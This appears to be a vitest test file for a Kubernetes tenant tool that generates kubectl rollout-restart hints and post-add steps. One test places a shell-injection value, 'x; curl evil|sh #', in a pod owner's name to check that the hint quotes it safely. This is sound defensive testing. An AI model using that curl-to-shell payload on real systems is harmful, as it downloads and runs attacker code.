import {expect, test} from 'vitest'
import {
  formatRestarts,
  restartHints,
  restartRisks,
  stepsAfterAdd,
} from '../../../src/features/tenant/report-restarts.ts'
import {podOf} from './samples.ts'

test('one command per namespace restarts each workload once; other pods are listed', () => {
  const pods = [
    podOf('one', 'web-1', 'a', {owner: {kind: 'Deployment', name: 'web'}}),
    podOf('one', 'web-2', 'a', {owner: {kind: 'Deployment', name: 'web'}}),
    podOf('one', 'db-0', 'a', {owner: {kind: 'StatefulSet', name: 'db'}}),
    podOf('two', 'job-x', 'a', {owner: {kind: 'Job', name: 'job'}}),
    podOf('two', 'bare', 'a', {owner: undefined}),
  ]
  expect(restartHints(pods)).toEqual([
    'kubectl -n one rollout restart deploy/web statefulset/db',
    'delete and recreate these pods in two: bare, job-x',
  ])
})

test('the warning has the number of pods', () => {
  const pod = podOf('one', 'web', 'a')
  expect(formatRestarts([])).toEqual([])
  expect(restartRisks([])).toEqual([])
  expect(restartRisks([pod])).toEqual(['1 pod keeps its control plane until it is restarted'])
  expect(formatRestarts([pod])).toEqual([
    expect.stringMatching(/^warning: 1 pod keeps its .* until it is restarted$/),
    expect.stringMatching(/^hint: {2}kubectl -n one/),
  ])
  expect(formatRestarts([pod, pod])[0]).toMatch(/^warning: 2 pods keep their .* until they are restarted$/)
})

// The API server does not validate the name in an ownerReference.
test('the name of an owner cannot add a command', () => {
  const pod = podOf('one', 'web-1', 'a', {owner: {kind: 'Deployment', name: 'x; curl evil|sh #'}})
  expect(restartHints([pod])).toEqual(["kubectl -n one rollout restart 'deploy/x; curl evil|sh #'"])
})

test('a tenant without namespaces gets one', () =>
  expect(stepsAfterAdd({name: 'shop', hasNamespaces: false, pods: []}, '', '')).toEqual([
    'kubectl mesh tenant assign shop NAMESPACE',
    'kubectl mesh tenant verify shop',
  ]))

test('its pods are restarted, then it is verified', () => {
  const owner = {kind: 'Deployment', name: 'web'}
  const pods = [podOf('app', 'web', 'a', {owner}), podOf('app', 'job', 'a', {owner: undefined})]
  expect(stepsAfterAdd({name: 'shop', hasNamespaces: true, pods}, 'east', '--as admin')).toEqual([
    'kubectl --context east --as admin -n app rollout restart deploy/web',
    'delete and recreate these pods in app: job',
    'kubectl mesh tenant verify shop --context east --as admin',
  ])
})
